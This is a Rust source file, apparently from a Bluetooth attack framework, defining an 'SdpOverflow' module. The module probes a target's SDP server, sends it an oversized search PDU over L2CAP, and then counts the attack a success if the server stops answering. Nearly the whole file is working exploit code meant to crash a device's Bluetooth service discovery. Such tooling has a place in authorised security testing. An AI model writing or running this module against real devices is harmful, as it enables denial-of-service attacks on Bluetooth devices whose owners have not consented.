//! SDP parameter overflow.

use async_trait::async_trait;
use std::time::Duration;

use bluefang_codec::{l2cap::psm, sdp};
use bluefang_common::{AttackKind, BdAddr, BlueResult, Transport};

use crate::module::{AttackContext, AttackModule};
use crate::payloads::overflow_payload;
use crate::probe;

/// Pause before checking whether the SDP server survived.
const SETTLE: Duration = Duration::from_secs(2);

#[derive(Debug, Default)]
pub struct SdpOverflow;

impl SdpOverflow {
    pub fn new() -> Self {
        Self
    }
}

#[async_trait]
impl AttackModule for SdpOverflow {
    fn kind(&self) -> AttackKind {
        AttackKind::SdpOverflow
    }

    async fn check_vulnerability(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let reachable = probe::browse(ctx, target).await?.is_some();
        if reachable {
            ctx.log.info("SDP server answers browse requests");
        }
        Ok(reachable)
    }

    async fn exploit(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let payload = overflow_payload(ctx.config.overflow_size);
        let frame = sdp::oversized_search(&payload);
        ctx.log.info(format!("Sending {}-byte overflow PDU", frame.len()));

        let Some(mut sock) = probe::open(ctx, target, Transport::L2cap, psm::SDP).await? else {
            ctx.log.error("SDP channel refused the connection");
            return Ok(false);
        };
        if !probe::send(ctx, sock.as_mut(), &frame).await? {
            return Ok(false);
        }
        match probe::recv(ctx, sock.as_mut()).await? {
            Some(reply) => ctx.log.info(format!("SDP server replied with {} bytes", reply.len())),
            None => ctx.log.warning("No reply to overflow PDU"),
        }
        Ok(true)
    }

    async fn run_payload(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        ctx.cancel.sleep(SETTLE).await?;
        let Some(mut sock) = probe::open(ctx, target, Transport::L2cap, psm::SDP).await? else {
            ctx.log.success("SDP channel no longer accepts connections");
            return Ok(true);
        };
        if !probe::send(ctx, sock.as_mut(), &sdp::probe_request()).await? {
            ctx.log.success("SDP channel dropped the probe");
            return Ok(true);
        }
        match probe::recv(ctx, sock.as_mut()).await? {
            None => {
                ctx.log.success("SDP server stopped answering");
                Ok(true)
            }
            Some(_) => {
                ctx.log.warning("SDP server still answers");
                Ok(false)
            }
        }
    }
}
